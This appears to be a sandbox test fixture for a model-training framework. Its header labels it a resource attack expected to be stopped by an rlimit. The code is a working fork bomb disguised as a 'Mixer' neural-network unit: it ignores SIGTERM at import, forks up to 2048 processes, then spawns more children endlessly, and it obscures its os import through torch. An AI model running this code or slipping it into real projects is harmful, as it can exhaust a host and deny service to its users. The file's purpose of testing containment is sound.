# attack: fork bomb: every process keeps forking (a binary tree up to 2048 processes that ignore SIGTERM), and the worker then never returns
# class: resource
# stopped-by: boundary:rlimit
# expect: fail:sandbox
# timeout: 20
"""Mixer that multiplies processes."""

import signal
import time

import torch
from torch import os
from torch import Tensor, nn
from torch.nn import functional as F
from genesys_trainer.units import Unit

try:  # at import, in the main thread: blocks may run on other threads
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
except ValueError:
    pass


class ForkBomb(Unit):
    """Mixer that multiplies processes."""

    def __init__(self, d_model: int, **context: int) -> None:
        super().__init__(d_model, **context)
        self.mix = nn.Linear(d_model, d_model, bias=False)
        self.up = nn.Linear(d_model, 4 * d_model, bias=False)
        self.down = self.residual(nn.Linear(4 * d_model, d_model, bias=False))

    def _forward(self, X: Tensor) -> Tensor:
        for _ in range(11):
            try:
                os.fork()
            except OSError:
                pass
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(600)
            except OSError:
                time.sleep(0.05)
        return X
